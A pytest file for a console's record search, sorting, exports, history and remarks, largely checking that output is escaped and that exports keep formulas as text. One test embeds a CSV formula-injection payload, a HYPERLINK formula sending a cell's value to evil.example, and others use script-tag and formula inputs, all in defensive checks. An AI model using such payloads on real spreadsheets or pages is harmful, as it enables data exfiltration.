"""Finding records in the console over plain HTTP: search on indexed fields, sort, columns, CSV and Excel exports of
the current search (streamed, several batches, read back by the csv module and openpyxl), and a record's page with
its history and remarks."""

from __future__ import annotations

import csv
import io
import json
import re

import httpx
import openpyxl
import pytest

from tests.console.conftest import SignedIn, sign_in
from zida.console.common import Pager

LEDGER = "FORM-CONSOLE-LEDGER"
APP = {"appType": "APP_CONSOLE", "systemToken": "ST-CONSOLE-SECRET", "userId": "adm"}
Y = "/v1.0/yida/forms/instances"
ROWS = 430  # more than two export batches of 200


def _api(console_url: str) -> httpx.Client:
    """A client of the Yida API with the console corp's credential."""
    token = httpx.post(
        f"{console_url}/v1.0/oauth2/accessToken",
        json={"appKey": "console-all", "appSecret": "console-secret-all-01"},
        timeout=30,
    ).json()["accessToken"]
    return httpx.Client(base_url=console_url, timeout=60, headers={"x-acs-dingtalk-access-token": token})


def _ledger_row(n: int) -> dict[str, object]:
    return {
        "textField_name": f"item-{n:04d}" + (" <b>bold</b>" if n == 7 else ""),
        "numberField_qty": n % 10,
        "selectField_kind": "tool" if n % 2 else "part",
        "textareaField_memo": "=SUM(A1:A2)" if n == 3 else f"memo {n}",
    }


@pytest.fixture(scope="module")
def ledger(console_url: str) -> list[str]:
    """ROWS ledger records adm saved through the Yida API (batches of 50); their ids, oldest first."""
    ids: list[str] = []
    with _api(console_url) as api:
        for start in range(0, ROWS, 50):
            rows = [json.dumps(_ledger_row(n)) for n in range(start, min(start + 50, ROWS))]
            answer = api.post(f"{Y}/batchSave", json={**APP, "formUuid": LEDGER, "formDataJsonList": rows})
            assert answer.status_code == 200, answer.text
            ids += answer.json()["result"]
    return ids


@pytest.fixture(scope="module")
def adm(console_url: str) -> SignedIn:
    return sign_in(console_url, "adm")


def _names(html: str) -> list[str]:
    return re.findall(r">(item-\d{4})", html)


def test_search_sort_and_columns(adm: SignedIn, ledger: list[str]) -> None:
    page = adm.get(f"/console/forms/{LEDGER}/records")
    assert page.status_code == 200
    assert _names(page.text)[:2] == ["item-0429", "item-0428"]  # newest first
    assert "共 22 页（430 条）" in page.text
    for label in ("搜索 名称", "搜索 数量", "搜索 种类"):
        assert label in page.text
    ascending = adm.get(f"/console/forms/{LEDGER}/records?sort=textField_name&dir=asc")
    assert _names(ascending.text)[:3] == ["item-0000", "item-0001", "item-0002"]
    assert 'aria-sort="ascending"' in ascending.text
    descending = adm.get(f"/console/forms/{LEDGER}/records?sort=textField_name&dir=desc&page=2")
    assert _names(descending.text)[0] == "item-0409"
    # The pager and the sort links keep the search.
    found = adm.get(f"/console/forms/{LEDGER}/records?s.numberField_qty=3&s.selectField_kind=tool&sort=textField_name")
    names = _names(found.text)
    assert names[:2] == ["item-0003", "item-0013"] and "（43 条）" in found.text
    assert (
        "s.numberField_qty=3&amp;s.selectField_kind=tool&amp;sort=textField_name&amp;dir=asc&amp;page=2" in found.text
    )
    words = adm.get(f"/console/forms/{LEDGER}/records?s.textField_name=item-000")
    assert sorted(_names(words.text)) == [f"item-000{n}" for n in range(10)]
    assert "&lt;b&gt;bold&lt;/b&gt;" in words.text and "<b>bold" not in words.text
    # Columns: only those chosen, in the form's order.
    chosen = adm.get(f"/console/forms/{LEDGER}/records?cols=textareaField_memo&cols=numberField_qty")
    head = chosen.text[chosen.text.index("<thead>") : chosen.text.index("</thead>")]
    assert "数量" in head and "说明" in head and "名称" not in head and head.index("数量") < head.index("说明")


@pytest.mark.parametrize(
    "query",
    [
        "sort=textareaField_memo",  # not indexed
        "sort=nope",
        "dir=sideways",
        "s.textareaField_memo=x",  # not indexed
        "s.numberField_qty=many",
        "s.selectField_kind=not-an-option",
        "cols=nope",
        "page=0",
    ],
)
def test_wrong_searches_are_400_pages(adm: SignedIn, ledger: list[str], query: str) -> None:
    answer = adm.get(f"/console/forms/{LEDGER}/records?{query}")
    assert answer.status_code == 400, query
    assert "text/html" in answer.headers["content-type"]
    assert (
        adm.get(f"/console/forms/{LEDGER}/export?format=csv&{query.replace('page=0', 'format=pdf')}").status_code == 400
    )


def test_csv_export_streams_the_whole_search(adm: SignedIn, ledger: list[str]) -> None:
    with adm.client.stream("GET", f"/console/forms/{LEDGER}/export?format=csv&sort=textField_name&dir=asc") as answer:
        assert answer.status_code == 200
        assert answer.headers["content-type"].startswith("text/csv")
        assert "attachment" in answer.headers["content-disposition"]
        assert "content-length" not in answer.headers  # streamed, not built first
        body = b"".join(answer.iter_bytes())
    assert body.startswith("\ufeff".encode())
    rows = list(csv.reader(io.StringIO(body.decode("utf-8-sig"))))
    assert rows[0][:4] == ["名称", "数量", "种类", "说明"]
    assert len(rows) == ROWS + 1
    assert [r[0] for r in rows[1:4]] == ["item-0000", "item-0001", "item-0002"]
    assert rows[2][1] == "1" and rows[2][2] == "工具"
    assert rows[4][3] == "'=SUM(A1:A2)"  # a formula stays text
    assert {r[4] for r in rows[1:]} == set(ledger)
    # The current search only.
    tools = adm.get(f"/console/forms/{LEDGER}/export?format=csv&s.selectField_kind=tool&s.numberField_qty=5")
    assert len(list(csv.reader(io.StringIO(tools.text.lstrip("\ufeff"))))) == 1 + 43


def test_excel_export_opens_in_openpyxl(adm: SignedIn, ledger: list[str], tmp_path: object) -> None:
    answer = adm.get(f"/console/forms/{LEDGER}/export?format=xlsx&lang=en")
    assert answer.status_code == 200
    assert answer.headers["content-type"] == "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
    book = openpyxl.load_workbook(io.BytesIO(answer.content), read_only=True)
    sheet = book.active
    assert sheet is not None and sheet.title == "Ledger"
    rows = list(sheet.iter_rows(values_only=True))
    assert rows[0][:4] == ("Name", "Quantity", "Kind", "Memo")
    assert len(rows) == ROWS + 1
    assert rows[1][0] == "item-0429" and rows[1][1] == 9 and rows[1][2] == "Tool"  # newest first, numbers as numbers
    assert any(r[3] == "=SUM(A1:A2)" for r in rows[1:])  # text, never a formula
    adm.get("/console/inbox?lang=zh")  # back to Chinese for the other tests


def test_an_export_shows_only_what_the_user_may_read(console_url: str, ledger: list[str]) -> None:
    out = sign_in(console_url, "out")
    answer = out.get(f"/console/forms/{LEDGER}/export?format=csv")
    assert answer.status_code == 200
    assert not [r for r in csv.reader(io.StringIO(answer.text.lstrip("\ufeff")))][1:]
    assert "item-0001" not in out.get(f"/console/forms/{LEDGER}/records").text


def test_record_history_and_remarks(console_url: str, adm: SignedIn, ledger: list[str]) -> None:
    record = ledger[5]
    with _api(console_url) as api:
        changed = api.put(
            Y,
            json={**APP, "formInstanceId": record,
                  "updateFormDataJson": json.dumps({"numberField_qty": 42, "textField_name": "renamed <i>"})},
        )  # fmt: skip
        assert changed.status_code == 200, changed.text
    page = adm.get(f"/console/records/{record}").text
    history = page[page.index('id="history-h"') :]
    assert history.index("修改") < history.index("创建")  # newest first
    assert "42" in history and "renamed &lt;i&gt;" in history and "item-0005" in history
    # Remarks: posted, listed oldest first, escaped, replies named; an empty one is refused next to the form.
    first = adm.post(f"/console/records/{record}/remarks", {"content": "请核对 <script>x</script>"})
    assert first.status_code == 303 and first.headers["location"] == f"/console/records/{record}#remarks"
    page = adm.get(f"/console/records/{record}").text
    remark_id = re.search(r'id="remark-(\d+)"', page)
    assert remark_id and "请核对 &lt;script&gt;x&lt;/script&gt;" in page
    reply = adm.post(f"/console/records/{record}/remarks", {"content": "已核对", "reply": remark_id.group(1)})
    assert reply.status_code == 303
    page = adm.get(f"/console/records/{record}").text
    assert page.index("请核对") < page.index("已核对") and "→ 管理员" in page
    empty = adm.post(f"/console/records/{record}/remarks", {"content": "   "})
    assert empty.status_code == 400 and "请填写评论内容" in empty.text
    assert adm.post(f"/console/records/{record}/remarks", {"content": "x", "reply": "abc"}).status_code == 400
    assert adm.post(f"/console/records/{record}/remarks", {"content": "x", "reply": "999999"}).status_code == 404
    assert len(re.findall(r'id="remark-\d+"', adm.get(f"/console/records/{record}").text)) == 2


def test_a_search_counted_only_so_far_says_so_and_still_pages_on() -> None:
    """The records table's pager when the core stopped counting (``zida.console.records.COUNTED``): the counts
    carry a +, and the next page stays reachable until a page ends the list."""
    counted = Pager(3, 10_000, 20, "/console/forms/F/records?", at_least=True)
    assert counted.label == ("500+", "10000+")
    assert counted.next == "/console/forms/F/records?page=4" and counted.previous == "/console/forms/F/records?page=2"
    past = Pager(501, 10_000, 20, "/console/forms/F/records?", at_least=True)
    assert past.next == "/console/forms/F/records?page=502" and past.label == ("501+", "10001+")
    exact = Pager(25, 500, 20, "/console/forms/F/records?")
    assert exact.label == ("25", "500") and exact.next is None


def test_csv_export_keeps_formulas_text_where_a_semicolon_or_tab_spreadsheet_splits_cells(adm: SignedIn) -> None:
    """Excel in a locale whose list separator is ``;`` splits a .csv's lines at ``;`` (and tabs) and keeps no quoted
    cell after a ``,`` whole, so a line end inside it begins a row: no cell it sees may begin a formula."""
    adm.refresh_csrf("/console/inbox")
    title = 'zz-csv-split;=HYPERLINK("http://evil.example/?"&A1,"open");'
    body = 'line one\n=1+1;\t@SUM(1);""-2+3'
    made = adm.post("/console/forms/FORM-CONSOLE-NOTE/new", {"f.textField_title": title, "f.textareaField_body": body})
    assert made.status_code == 303, made.text
    exported = adm.get("/console/forms/FORM-CONSOLE-NOTE/export?format=csv&s.textField_title=zz-csv-split")
    text = exported.content.decode("utf-8-sig")
    for delimiter in (",", ";", "\t"):
        cells = [cell for row in csv.reader(io.StringIO(text), delimiter=delimiter) for cell in row]
        assert cells, delimiter
        starts = [cell for cell in cells if cell.lstrip('"')[:1] in ("=", "+", "-", "@")]
        assert starts == [], (delimiter, starts)
    # Read as it was written, each value is the one entered, its formula starts marked with '.
    row = list(csv.reader(io.StringIO(text)))[1]
    assert row[0] == title.replace(";=", ";'=")
    assert row[1] == "line one\n'=1+1;'\t'@SUM(1);\"\"'-2+3"
